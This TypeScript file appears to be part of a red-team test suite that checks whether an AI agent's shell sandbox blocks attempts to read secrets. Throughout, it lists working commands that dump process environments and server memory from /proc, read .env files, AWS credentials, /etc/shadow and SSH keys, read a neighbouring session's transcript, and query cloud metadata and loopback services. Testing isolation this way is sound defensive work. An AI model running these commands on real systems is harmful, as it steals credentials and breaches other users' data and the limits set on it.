import { type Attack, bash, type Ground, node, SAY_SUCCESS } from './attack.ts';

const neighbour = ({ dataDir, neighbourId }: Ground): string => `${dataDir}/work/${neighbourId}`;
/** Fetches each address that is given; prints what comes. */
const fetchAll = (urls: string): string =>
  node(
    `Promise.all([${urls}].map((url) => fetch(url, { signal: AbortSignal.timeout(3000) }).then((r) => r.text()).then(console.log, (e) => console.log(url, e.cause?.code ?? e.name))))`,
  );

/** What a command in the agent's shell tries to read. */
export const READING: readonly Attack[] = [
  bash('its own environment', () => 'env; export -p; set; compgen -v | head -c 100000'),
  bash(
    'the environment of its parents',
    () => 'for p in self $PPID 1 2 3; do tr "\\0" "\\n" < /proc/$p/environ; done',
  ),
  bash('the environment of the server', ({ serverPid }) => `tr "\\0" "\\n" < /proc/${serverPid}/environ`, [
    "server's environment",
    'bot token',
    'webhook secret',
    'service token',
    'model key',
  ]),
  bash(
    'the environment of the server, encoded',
    ({ serverPid }) =>
      `base64 /proc/${serverPid}/environ; rev /proc/${serverPid}/environ; od -An -v -tx1 /proc/${serverPid}/environ | tr -d " \\n"`,
    ["server's environment"],
  ),
  bash(
    'the environment of every process',
    () => 'cat /proc/[0-9]*/environ /proc/[0-9]*/task/*/environ | tr "\\0" "\\n" | grep -a planted',
    ["server's environment", "process's environment"],
  ),
  bash(
    'the arguments of every process',
    () => 'cat /proc/[0-9]*/cmdline | tr "\\0" "\\n" | grep -a planted; ps auxwwwe | grep planted',
    ["process's arguments"],
  ),
  bash(
    "the server's memory",
    ({ serverPid }) =>
      node(`const fs = require("fs"), p = "/proc/${serverPid}/";
        const mem = fs.openSync(p + "mem"); const found = new Set();
        for (const line of fs.readFileSync(p + "maps", "utf8").split("\\n")) {
          const [range, rights] = line.split(" "); if (!/^rw/.test(rights ?? "")) continue;
          const [from, to] = range.split("-").map((x) => parseInt(x, 16)); const length = Math.min(to - from, 1 << 24);
          const buffer = Buffer.alloc(length);
          try { fs.readSync(mem, buffer, 0, length, from); } catch { continue; }
          for (const [m] of buffer.toString("latin1").matchAll(/planted-[0-9a-f]{24}/g)) found.add(m);
        }
        console.log([...found].join("\\n"));`),
    ["server's environment", 'model key'],
  ),
  bash(
    "the server's files by its own root",
    ({ serverPid, serverFolder }) =>
      `cat /proc/${serverPid}/root${serverFolder}/.env /proc/${serverPid}/cwd/.env`,
    ['.env file'],
  ),
  bash(
    'files that the server holds open',
    ({ serverPid }) =>
      `for f in /proc/${serverPid}/fd/*; do [ -f $f ] && timeout 0.2 head -c 1000 $f | grep -a planted; done`,
    ['open file'],
  ),
  bash(
    'files that it inherited open',
    () =>
      'ls -l /proc/self/fd; for f in 3 4 5 6 7 8 9 10; do timeout 1 head -c 200 /proc/self/fd/$f; timeout 1 head -c 200 /proc/$PPID/fd/$f; done',
  ),
  bash("the server's .env file", ({ serverFolder }) => `cat ${serverFolder}/.env`, ['.env file']),
  bash(
    'a file in the home directory',
    ({ homeFolder }) => `cat ${homeFolder}/.aws/credentials ~/.aws/credentials ~root/.aws/credentials`,
    ['file in the home directory'],
  ),
  bash('a file that everybody may read', ({ publicFolder }) => `cat ${publicFolder}/secret.json`, [
    'file for everybody',
  ]),
  bash(
    'files of other users',
    () =>
      'cat /etc/shadow /root/.ssh/* /root/.bash_history /home/*/.ssh/* | head -c 200 | grep . && ' +
      SAY_SUCCESS,
  ),
  bash(
    'anything below the root that names a secret',
    () =>
      'grep -rhaso "planted-[0-9a-f]*" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=usr --exclude-dir=opt --exclude-dir=nix 2>/dev/null | sort -u | head -50',
  ),
  bash("the neighbour's workspace", (ground) => `cat ${neighbour(ground)}/workspace/*`, [
    "neighbour's workspace",
  ]),
  bash(
    "the neighbour's transcript",
    (ground) => `cat ${neighbour(ground)}/config/projects/p/*.jsonl | head -c 20000`,
    ["neighbour's conversation"],
  ),
  bash(
    "the neighbour's stored objects",
    ({ dataDir, neighbourId: id }) =>
      `cat ${dataDir}/objects/sessions/${id}/conversation.jsonl | head -c 20000; zcat ${dataDir}/objects/sessions/${id}/packs/*`,
    ["neighbour's conversation", "neighbour's workspace"],
  ),
  bash(
    'who else has a session',
    ({ dataDir }) => `ls ${dataDir} ${dataDir}/work ${dataDir}/objects/sessions; ls -a $R/.. $R/../..`,
  ),
  bash('the databases', ({ dataDir }) => `cat ${dataDir}/*.db* | grep -a planted && ${SAY_SUCCESS}`),
  bash(
    'shared memory',
    ({ sharedMemory }) => `cat ${sharedMemory}; ls -R /dev/shm; ipcs -m | grep 0x && ${SAY_SUCCESS}`,
    ['shared memory'],
  ),
  bash(
    'the session keyring of the kernel',
    () =>
      `perl -e 'my ($key, $search, $read) = (qx(uname -m) =~ /x86/) ? (250, 10, 11) : (219, 10, 11);
        my @u = ("user", "redteam"); my $found = syscall($key, $search, -3, @u, 0); my $text = "\\0" x 200;
        syscall($key, $read, $found, $text, 200); print $text, $found'; cat /proc/keys`,
    ['session keyring'],
  ),
  bash(
    'a service on loopback',
    ({ loopbackPort: port }) =>
      `${fetchAll(`"http://127.0.0.1:${port}", "http://localhost:${port}", "http://[::1]:${port}", "http://0.0.0.0:${port}"`)}; timeout 2 bash -c "exec 3<>/dev/tcp/127.0.0.1/${port}; printf \\"GET / HTTP/1.0\\r\\n\\r\\n\\" >&3; cat <&3"`,
    ['loopback service'],
  ),
  bash(
    "the host's metadata and runtime services",
    ({ loopbackPort: port }) =>
      fetchAll(
        `"http://169.254.169.254/latest/meta-data/", "http://169.254.170.2/v2/credentials", "http://[fd00:ec2::254]/latest/", "http://127.0.0.1:9001/2018-06-01/runtime/invocation/next", "http://" + (process.env.AWS_LAMBDA_RUNTIME_API ?? "127.0.0.1:${port}") + "/2018-06-01/runtime/invocation/next"`,
      ),
    ['loopback service'],
  ),
  bash(
    'a socket without a file',
    ({ abstractSocket }) =>
      `timeout 3 ${node(`require("net").connect("\\0${abstractSocket.slice(1)}").on("data", (d) => console.log(String(d))).on("error", (e) => console.log(e.code))`)}`,
    ['abstract socket'],
  ),
  bash(
    "the server's own API, without its token",
    ({ serverUrl, neighbourId: id }) =>
      fetchAll(`"${serverUrl}/health", "${serverUrl}/session/${id}/export", "${serverUrl}/page/state"`) +
      ` | grep -v -e ECONNREFUSED && ${SAY_SUCCESS}`,
  ),
  bash(
    'the network beyond',
    () =>
      `cat /proc/net/dev | grep -v -e lo: -e face -e Receive && ${SAY_SUCCESS}; cat /proc/net/tcp /proc/net/udp`,
  ),
  bash(
    'kernel memory and messages',
    () =>
      `for f in /proc/kcore /dev/mem /dev/kmem /dev/port /dev/kmsg /proc/kmsg /dev/sda /dev/vda /dev/nvme0n1; do head -c 64 $f | grep -aq . && ${SAY_SUCCESS} $f; done; dmesg | head -c 100 | grep -q '\\[' && ${SAY_SUCCESS}`,
  ),
];
